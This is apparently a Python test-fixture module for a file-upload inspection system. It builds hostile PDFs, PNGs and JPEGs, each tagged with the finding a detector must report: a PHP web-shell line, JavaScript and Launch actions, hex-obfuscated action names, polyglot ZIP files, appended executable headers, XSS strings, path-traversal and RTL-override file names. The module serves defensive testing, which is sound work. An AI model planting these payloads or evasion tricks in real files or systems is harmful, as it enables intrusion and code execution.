"""Benign and hostile files, built in memory by independent producers (pikepdf, Pillow, byte surgery).

One definition for three uses: the committed corpus (``tests/corpus/make_corpus.py`` writes these
bytes to disk), the corpus tests, and the QA kit's :func:`~segur_workflow.testing.hostile_attachments`
strategy. Each hostile case says what the inspection must find (a finding of
:data:`segur_workflow.sniff.CONSTATS`) or which violation code the name must get.
"""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from types import MappingProxyType

import attrs
import pikepdf
from PIL import Image

from .. import examples


@attrs.frozen
class CasFichier:
    """One file of a corpus: the upload ``name``, its ``data``, and what must be said of it:
    ``constat`` (a finding the inspection records) or ``code`` (a violation of the name or type)."""

    name: str
    data: bytes = attrs.field(repr=lambda d: f"<{len(d)} octets>")
    constat: str | None = None
    code: str | None = None


# -- foreign payloads ---------------------------------------------------------------------------------
PE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00"
      + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 64)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 40
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00" + b"\x00" * 48
CAB = b"MSCF\x00\x00\x00\x00" + struct.pack("<I", 64) + b"\x00" * 52
LNK = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + b"\x00" * 56
RAR = b"Rar!\x1a\x07\x01\x00" + b"\x33\x92\xb5\xe5\x0a\x01\x05\x06\x00\x05\x01\x01\x80\x80\x00"
SEVEN_Z = b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24
BATCH = b"@echo off\r\nstart calc.exe\r\n"
POSTSCRIPT = b"%!PS-Adobe-3.0\n/Helvetica findfont 12 scalefont setfont\n"
UTF16_HTML = "<html><body onload=alert(1)>x</body></html>\n".encode("utf-16-le")
PHP = b"<?php system($_GET['c']); ?>"


def zip_bytes(name: str = "facture.exe", data: bytes = PE) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(zipfile.ZipInfo(name, date_time=(2023, 5, 23, 10, 0, 0)), data)
    return buf.getvalue()


FOREIGN: Mapping[str, bytes] = MappingProxyType({
    "pe": PE, "elf": ELF, "macho": MACHO, "cab": CAB, "lnk": LNK, "rar": RAR, "7z": SEVEN_Z, "zip": zip_bytes(),
    "batch": BATCH, "postscript": POSTSCRIPT, "utf16": UTF16_HTML,
})


# -- PDFs -----------------------------------------------------------------------------------------------
def _save(pdf: pikepdf.Pdf, *, object_streams: bool = True, **options: object) -> bytes:
    buf = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    # a fixed /ID, so the corpus is the same bytes every time (qpdf cannot derive one for an encrypted file)
    ident = {"static_id": True} if "encryption" in options else {"deterministic_id": True}
    pdf.save(buf, object_stream_mode=mode, compress_streams=True, **ident, **options)  # type: ignore[arg-type]
    return buf.getvalue()


def _pdf_page(text: str = "Procès-verbal de vérification de service régulier") -> pikepdf.Pdf:
    """A one-page PDF written by pikepdf (text drawn with a standard font)."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    font = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1,
                                                BaseFont=pikepdf.Name.Helvetica))
    page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
    body = text.encode("latin-1", "replace").replace(b"(", b"").replace(b")", b"")
    page.Contents = pdf.make_stream(b"BT /F1 14 Tf 72 760 Td (" + body + b") Tj ET")
    return pdf


def pdf_objets_compresses() -> bytes:
    """Benign: a PDF whose objects sit in compressed object streams (PDF 1.5), written by qpdf."""
    return _save(_pdf_page())


def _with_action(where: str, action: pikepdf.Dictionary) -> bytes:
    pdf = _pdf_page()
    ref = pdf.make_indirect(action)
    if where == "open":
        pdf.Root.OpenAction = ref
    else:  # an additional action of the page, run when it opens
        pdf.pages[0].obj.AA = pikepdf.Dictionary(O=ref)
    return _save(pdf)


def _action(kind: str, **entries: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary({"/Type": pikepdf.Name.Action, "/S": pikepdf.Name("/" + kind),
                               **{"/" + key: value for key, value in entries.items()}})


def _pdf_incremental(base: bytes, objects: Mapping[int, bytes], root: int | None = None) -> bytes:
    """``base`` plus an incremental update (new objects, an xref section, a trailer with /Prev)."""
    start = base.rindex(b"startxref")
    prev = int(base[start + 9:].split()[0])
    out = base
    offsets = {}
    for num, body in objects.items():
        offsets[num] = len(out)
        out += str(num).encode() + b" 0 obj\n" + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n"
    for num, off in sorted(offsets.items()):
        out += f"{num} 1\n{off:010d} 00000 n \n".encode()
    size = max(objects) + 1
    out += (b"trailer\n<< /Size " + str(size).encode() + b" /Root " + str(root or 1).encode()
            + b" 0 R /Prev " + str(prev).encode() + b" >>\nstartxref\n" + str(xref).encode() + b"\n%%EOF\n")
    return out


def _catalog_with(extra: bytes) -> bytes:
    return examples.pdf_bytes().replace(b"/Type /Catalog", b"/Type /Catalog " + extra)


def _pdf_embedded_file() -> bytes:
    pdf = _pdf_page()
    pdf.attachments["facture.exe"] = pikepdf.AttachedFileSpec(pdf, PE, mime_type="application/octet-stream")
    return _save(pdf)


def _pdf_encrypted() -> bytes:
    return _save(_pdf_page(), encryption=pikepdf.Encryption(owner="proprietaire", user="secret", R=4))


def _pdf_richmedia() -> bytes:
    pdf = _pdf_page()
    annot = pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 100, 100],
        RichMediaContent=pikepdf.Dictionary(Assets=pikepdf.Dictionary(Names=[])),
    ))
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([annot]))
    return _save(pdf)


def _pdf_xfa() -> bytes:
    pdf = _pdf_page()
    xfa = pdf.make_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>')
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=xfa)
    return _save(pdf)


def _pdf_js_earlier_revision() -> bytes:
    """JavaScript in the first revision, replaced by an update: a reader may still show that revision."""
    first = _catalog_with(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")
    return _pdf_incremental(first, {1: b"<< /Type /Catalog /Pages 2 0 R >>"})


# -- images ---------------------------------------------------------------------------------------------
def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png_insert(png: bytes, chunk: bytes) -> bytes:
    """``chunk`` inserted right before IEND."""
    return png[:-12] + chunk + png[-12:]


def _jpeg_insert(jpeg: bytes, segment_marker: int, body: bytes) -> bytes:
    """A segment inserted right after SOI."""
    return jpeg[:2] + bytes([0xFF, segment_marker]) + struct.pack(">H", len(body) + 2) + body + jpeg[2:]


def png_texte(width: int = 64, height: int = 48) -> bytes:
    """Benign: a Pillow PNG with the ordinary text chunks of an editor (Software, Creation Time…)."""
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Software", "GIMP 2.10.34")
    info.add_text("Creation Time", "mar. 23 mai 2023 10:00:00 +0200")
    info.add_text("Title", "Procès-verbal de mise en service", zip=True)
    info.add_itxt("Description", "Procès-verbal signé — scan couleur", lang="fr", tkey="Description")
    im = Image.new("RGB", (width, height), (240, 240, 235))
    for x in range(width):
        im.putpixel((x, height // 2), (20, 20, 120))
    out = io.BytesIO()
    im.save(out, format="PNG", pnginfo=info, dpi=(300, 300))
    return out.getvalue()


def jpeg_exif(width: int = 120, height: int = 90, *, description: str | None = None) -> bytes:
    """Benign: a Pillow JPEG with the EXIF a camera or a scanner writes (make, model, dates, exposure)."""
    im = Image.new("RGB", (width, height), (200, 190, 180))
    for x in range(0, width, 3):
        im.putpixel((x, x * height // width), (30, 30, 30))
    exif = Image.Exif()
    exif[0x010F] = "Canon"  # Make
    exif[0x0110] = "Canon EOS 250D"  # Model
    exif[0x0131] = "Firmware Version 1.0.0"  # Software
    exif[0x0132] = "2023:05:23 10:00:00"  # DateTime
    exif[0x011A] = 300.0  # XResolution
    exif[0x011B] = 300.0
    exif[0x0128] = 2  # inches
    if description is not None:
        exif[0x010E] = description  # ImageDescription
    ifd = exif.get_ifd(0x8769)  # the Exif sub-IFD
    ifd[0x9003] = "2023:05:23 10:00:00"  # DateTimeOriginal
    ifd[0x829A] = 1 / 125  # ExposureTime
    ifd[0x829D] = 5.6  # FNumber
    ifd[0x8827] = 200  # ISO
    ifd[0x920A] = 35.0  # FocalLength
    out = io.BytesIO()
    im.save(out, format="JPEG", quality=90, exif=exif, dpi=(300, 300))
    return out.getvalue()


def jpeg_scanner(width: int = 620, height: int = 877) -> bytes:
    """Benign: a grey 'scanned page' JPEG (JFIF at 150 dpi, EXIF of a scanner)."""
    im = Image.new("L", (width, height), 235)
    for y in range(80, height - 80, 24):
        for x in range(60, width - 60, 2):
            im.putpixel((x, y), 40)
    exif = Image.Exif()
    exif[0x010F] = "Brother"
    exif[0x0110] = "MFC-L2710DW"
    exif[0x0132] = "2023:05:23 09:58:12"
    out = io.BytesIO()
    im.save(out, format="JPEG", quality=80, dpi=(150, 150), exif=exif)
    return out.getvalue()


def pdf_avec_jpeg() -> bytes:
    """Benign: a scanned page — a scanner-like JPEG (DCTDecode) as the only content of a PDF page."""
    jpeg = jpeg_scanner()
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    with Image.open(io.BytesIO(jpeg)) as im:
        width, height = im.size
    image = pdf.make_stream(jpeg, Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=width,
                            Height=height, ColorSpace=pikepdf.Name.DeviceGray, BitsPerComponent=8,
                            Filter=pikepdf.Name.DCTDecode)
    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=image))
    page.Contents = pdf.make_stream(b"q 595 0 0 842 0 0 cm /Im0 Do Q")
    return _save(pdf, object_streams=False)


# -- the hostile cases ----------------------------------------------------------------------------------
def _hostile() -> dict[str, Callable[[], CasFichier]]:
    pdf, png, jpeg = examples.pdf_bytes, examples.png_bytes, examples.jpeg_bytes
    cases: dict[str, Callable[[], CasFichier]] = {
        # PDF active content, wherever it is
        "pdf-js-objstm": lambda: CasFichier("pv.pdf", _with_action("open", _action(
            "JavaScript", JS=pikepdf.String("app.alert(1)"))), "pdf.javascript"),
        "pdf-launch-objstm": lambda: CasFichier("pv.pdf", _with_action("open", _action(
            "Launch", F=pikepdf.String("cmd.exe"))), "pdf.launch"),
        "pdf-js-hex": lambda: CasFichier("pv.pdf", _catalog_with(
            b"/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>"), "pdf.javascript"),
        "pdf-launch-hex": lambda: CasFichier("pv.pdf", _catalog_with(
            b"/OpenAction << /S /L#61unch /F (cmd.exe) >>"), "pdf.launch"),
        "pdf-embeddedfile-hex": lambda: CasFichier("pv.pdf", _catalog_with(
            b"/Names << /Embedded#46iles << /Names [(x.exe) << /Type /Filespec /F (x.exe) >>] >> >>"),
            "pdf.fichier_joint"),
        "pdf-openaction-uri": lambda: CasFichier("pv.pdf", _with_action("open", _action(
            "URI", URI=pikepdf.String("https://exemple.invalid/piege"))), "pdf.uri_auto"),
        "pdf-aa-submitform": lambda: CasFichier("pv.pdf", _with_action("aa", _action(
            "SubmitForm", F=pikepdf.String("https://exemple.invalid/collecte"))), "pdf.submitform"),
        "pdf-gotor": lambda: CasFichier("pv.pdf", _with_action("open", _action(
            "GoToR", F=pikepdf.String("\\\\serveur\\partage\\x.pdf"), D=[0, pikepdf.Name.Fit])), "pdf.gotor"),
        "pdf-gotoe": lambda: CasFichier("pv.pdf", _with_action("open", _action(
            "GoToE", D=[0, pikepdf.Name.Fit])), "pdf.gotoe"),
        "pdf-importdata": lambda: CasFichier("pv.pdf", _with_action("aa", _action(
            "ImportData", F=pikepdf.String("donnees.fdf"))), "pdf.importdata"),
        "pdf-richmedia": lambda: CasFichier("pv.pdf", _pdf_richmedia(), "pdf.richmedia"),
        "pdf-xfa": lambda: CasFichier("pv.pdf", _pdf_xfa(), "pdf.xfa"),
        "pdf-embedded-exe": lambda: CasFichier("pv.pdf", _pdf_embedded_file(), "pdf.fichier_joint"),
        "pdf-encrypted": lambda: CasFichier("pv.pdf", _pdf_encrypted(), "pdf.chiffre"),
        "pdf-js-incremental-update": lambda: CasFichier("pv.pdf", _pdf_incremental(examples.pdf_bytes(), {
            5: b"<< /S /JavaScript /JS (app.alert(1)) >>",
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"}), "pdf.javascript"),
        "pdf-js-earlier-revision": lambda: CasFichier("pv.pdf", _pdf_js_earlier_revision(), "pdf.javascript"),
        "pdf-php-body": lambda: CasFichier("pv.pdf", pdf().replace(b"endobj\n", b"endobj\n% " + PHP + b"\n", 1),
                                           "dans.php"),
        "pdf-img-onerror": lambda: CasFichier("pv.pdf", pdf().replace(
            b"%PDF-1.4\n", b"%PDF-1.4\n<img src=x onerror=alert(1)>\n", 1), "markup"),
        "pdf-body-onload": lambda: CasFichier("pv.pdf", pdf().replace(
            b"%PDF-1.4\n", b"%PDF-1.4\n<body onload=alert(1)>\n", 1), "markup"),
        "pdf-unreadable": lambda: CasFichier("pv.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 4 + b"\n%%EOF\n",
                                             "pdf.illisible"),
        # images
        "png-elf-private-chunk": lambda: CasFichier("pv.png", _png_insert(png(), png_chunk(b"prVt", ELF)),
                                                    "bloc.elf"),
        "png-php-text": lambda: CasFichier("pv.png", _png_insert(png(), png_chunk(b"tEXt", b"Comment\x00" + PHP)),
                                           "texte.php"),
        "png-script-ztxt": lambda: CasFichier("pv.png", _png_insert(png(), png_chunk(
            b"zTXt", b"Comment\x00\x00" + zlib.compress(b"<script>alert(1)</script>"))), "texte.html"),
        "jpeg-php-comment": lambda: CasFichier("pv.jpg", _jpeg_insert(jpeg(), 0xFE, PHP), "texte.php"),
        "jpeg-script-exif": lambda: CasFichier("pv.jpg", jpeg_exif(description="<script>alert(1)</script>"),
                                               "texte.html"),
        "png-unreadable": lambda: CasFichier("pv.png", png()[:33] + png_chunk(b"IDAT", b"\x00" * 16) + png()[-12:],
                                             "image.illisible"),
        "jpeg-unreadable": lambda: CasFichier("pv.jpg", jpeg()[:2] + b"\xff\xfe\x00\x04ab\xff\xd9",
                                              "image.illisible"),
    }
    # foreign formats after the end, before the header, or as the whole file
    for key, payload in FOREIGN.items():
        if key not in {"batch", "postscript", "utf16"}:
            cases[f"pdf-then-{key}"] = functools.partial(CasFichier, "pv.pdf", pdf() + payload, f"apres.{key}")
            cases[f"png-then-{key}"] = functools.partial(CasFichier, "pv.png", png() + payload, f"apres.{key}")
            cases[f"jpeg-then-{key}"] = functools.partial(CasFichier, "pv.jpg", jpeg() + payload, f"apres.{key}")
            cases[f"{key}-named-pdf"] = functools.partial(CasFichier, "pv.pdf", payload, f"est.{key}")
        cases[f"{key}-then-pdf"] = functools.partial(CasFichier, "pv.pdf", payload + pdf(), f"avant.{key}")
    # polyglots: a ZIP whose directory a ZIP reader finds from the end, inside an image or a PDF
    cases["polyglot-jpeg-zip"] = lambda: CasFichier("pv.jpg", jpeg()[:-2] + zip_bytes() + b"\xff\xd9", "archive")
    cases["polyglot-pdf-zip-comment"] = lambda: CasFichier(
        "pv.pdf", pdf().replace(b"%%EOF", b"% " + zip_bytes().replace(b"\n", b" ") + b"\n%%EOF"), "archive")
    cases["polyglot-png-zip-chunk"] = lambda: CasFichier(
        "pv.png", _png_insert(png(), png_chunk(b"zipP", zip_bytes())), "bloc.zip")
    # hostile names on a benign PDF
    names = {
        "name-fullwidth-slash": "..／..／pv.pdf", "name-division-slash": "..∕pv.pdf",
        "name-fullwidth-colon": "pv：evil.pdf", "name-space-before-ext": "pv.exe .pdf",
        "name-unicode-space-before-ext": "pv.exe\u2000.pdf", "name-con": "CON.pdf", "name-nul": "nul.png",
        "name-com1": "COM1.jpg", "name-lpt1": "LPT1.pdf", "name-percent-slash": "..%2f..%2fpv.pdf",
        "name-percent-nul": "pv%00.pdf", "name-rtl-override": "pv\u202efdp.exe", "name-traversal": "../../pv.pdf",
        "name-ads": "pv.pdf:evil.exe",
    }
    codes = {"name-space-before-ext": "piece.nom_espace", "name-unicode-space-before-ext": "piece.nom_espace",
             "name-con": "piece.nom_reserve", "name-nul": "piece.nom_reserve", "name-com1": "piece.nom_reserve",
             "name-lpt1": "piece.nom_reserve"}
    for case, name in names.items():
        data = {"png": png, "jpg": jpeg}.get(name.rsplit(".", 1)[-1], pdf)()
        cases[case] = functools.partial(CasFichier, name, data, None, codes.get(case, "piece.nom_caracteres"))
    return cases


#: Hostile cases by identifier; each builds its file on demand (and once: see :func:`hostile`).
HOSTILES: Mapping[str, Callable[[], CasFichier]] = MappingProxyType(_hostile())

#: Benign files by identifier, each from an independent producer (reportlab's live in the corpus only).
BENINS: Mapping[str, Callable[[], CasFichier]] = MappingProxyType({
    "pdf-objstm-pikepdf": lambda: CasFichier("pv.pdf", pdf_objets_compresses()),
    "pdf-scan-jpeg-pikepdf": lambda: CasFichier("scan.pdf", pdf_avec_jpeg()),
    "png-text-chunks-pillow": lambda: CasFichier("capture.png", png_texte()),
    "jpeg-exif-camera-pillow": lambda: CasFichier("photo.jpg", jpeg_exif()),
    "jpeg-scanner-pillow": lambda: CasFichier("scan.jpeg", jpeg_scanner()),
})


@functools.cache
def hostile(case: str) -> CasFichier:
    """The hostile case ``case``, built once."""
    return HOSTILES[case]()


@functools.cache
def benin(case: str) -> CasFichier:
    """The benign case ``case``, built once."""
    return BENINS[case]()
